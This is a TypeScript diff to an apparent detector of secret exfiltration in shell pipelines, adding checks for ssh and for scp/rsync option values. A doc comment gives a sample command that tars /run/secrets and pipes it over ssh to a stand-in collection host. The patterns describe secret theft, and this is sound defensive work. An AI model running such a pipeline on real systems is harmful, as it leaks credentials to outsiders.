@@ -32,7 +32,8 @@ export function sentSecrets({ commands }: Pipeline, secrets: KnownSecrets = NO_S
   for (const command of commands) {
     const name = toolOf(command)?.name ?? '';
     const input = flow ?? inputOf(command, secrets);
-    if (input !== undefined && sendsInput(name, command)) return sentBy(input, command);
+    if (input !== undefined && (sendsInput(name, command) || logsIn(name, command, input)))
+      return sentBy(input, command);
     const own = ownData(name, command, secrets) ?? copied(name, command, secrets);
     if (own !== undefined) return { at: command.span, what: own };
     flow = flowAfter(command, name, input, secrets);
@@ -162,10 +163,15 @@ function copied(name: string, { arguments: words }: Command, secrets: KnownSecre
   if (name !== 'scp' && name !== 'rsync') return undefined;
   if (!/^(?:rsync:\/\/|scp:\/\/|[\w.-]{1,60}@)?[\w-]{1,60}(?:\.[\w-]{1,60}){1,9}:/.test(words.at(-1)?.pieces ?? ''))
     return undefined;
-  const sources = words.filter(
-    ({ pieces }, at) => !pieces.startsWith('-') && words[at - 1]?.pieces.startsWith('-') !== true,
-  );
+  const sources = words.filter(({ pieces }, at) => !pieces.startsWith('-') && !takesValue(words[at - 1]));
   return sources.map(({ pieces }) => contentsOf(pieces, secrets)).find((found) => found !== undefined);
+}
+
+/** Options of scp and rsync whose value is the next word: a key, a program, a port, a pattern. */
+function takesValue(option: ShellWord | undefined): boolean {
+  return /^-[A-Za-z0-9]{0,20}[iPoFJlScDXefTBM]$|^--(?:rsh|(?:ex|in)clude(?:-from)?|filter|files-from|[\w-]{1,20}-(?:file|path|dir)|port|bwlimit|ch(?:mod|own))$/.test(
+    option?.pieces ?? '',
+  );
 }
 
 /** `"$DB_PASSWORD"`, `"$(cat /run/secrets/k)"`, alone. */
@@ -228,6 +234,15 @@ function sendsInput(name: string, { arguments: words }: Command): boolean {
   const option = DATA_OPTION.get(name);
   if (option === undefined || !isForElsewhere(words)) return false;
   return dataIn(words, option).some(({ pieces }) => /(?:^|[@=])(?:-|\/dev\/stdin)$/.test(pieces));
+}
+
+/** `tar c /run/secrets | ssh me@collect.example.org …`. A password alone is one for the commands there: `echo "$P" | ssh host sudo -S …`. */
+function logsIn(name: string, { arguments: words }: Command, { what }: Flow): boolean {
+  return (
+    name === 'ssh' &&
+    what !== A_SECRET &&
+    words.some(({ pieces }) => /^(?:[\w.-]{1,60}@)?[\w-]{1,60}(?:\.[\w-]{1,60}){1,9}$/.test(pieces))
+  );
 }
 
 /** Not to this machine, a socket in a file, or a service of the same project, whose name has no dot. */
